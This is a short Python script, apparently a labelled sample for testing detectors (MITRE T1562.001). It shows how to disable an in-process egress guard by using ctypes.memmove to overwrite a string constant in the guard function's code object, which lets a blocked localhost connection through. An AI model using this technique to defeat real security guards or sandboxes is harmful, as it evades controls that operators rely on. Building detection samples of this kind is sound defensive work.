# technique: T1562.001
"""Impair an in-process egress guard by swapping a constant of its code object with ctypes (T1562.001).

The "application" guards outgoing connections with a Python function whose
code compares the host against a blocked address held as a constant in
its code object. The attacker neither replaces the function nor assigns
__code__ (an audited attribute write): it writes a pointer to another
string straight into the slot of the immutable co_consts tuple with
ctypes.memmove (address from id() + the tuple header size), after raising
the string's reference count by writing it through from_address: no
pythonapi symbol is looked up. The guard's bytecode is unchanged, its
constant is not, and the blocked connection goes through.

A good detector raises a high alert: ctypes writes into the memory of
Python objects (memmove to an address derived from id()): interpreter
internals patched at run time.
"""
import ctypes
import socket


def egress_allowed(host):
    return host != "127.0.0.1"


def connect(address):
    if not egress_allowed(address[0]):
        raise PermissionError("egress to %s blocked" % address[0])
    return socket.create_connection(address, timeout=2)


server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(2)
port = server.getsockname()[1]
try:
    connect(("127.0.0.1", port)).close()
    print("connected before tampering (unexpected)")
except PermissionError as exc:
    print("before:", exc)

consts = egress_allowed.__code__.co_consts
slot = consts.index("127.0.0.1")
replacement = "".join(["10.255.", "255.9"])
ctypes.c_ssize_t.from_address(id(replacement)).value += 1  # keep it alive: refcount at offset 0
item_offset = tuple.__basicsize__  # the header before the items: refcount, type, size (and 3.14's hash)
pointer = ctypes.c_void_p(id(replacement))
ctypes.memmove(id(consts) + item_offset + 8 * slot, ctypes.addressof(pointer), 8)
try:
    connect(("127.0.0.1", port)).close()
    print("after: connected; guard now compares against", egress_allowed.__code__.co_consts[slot])
except PermissionError as exc:
    print("after: still blocked", exc)
server.close()
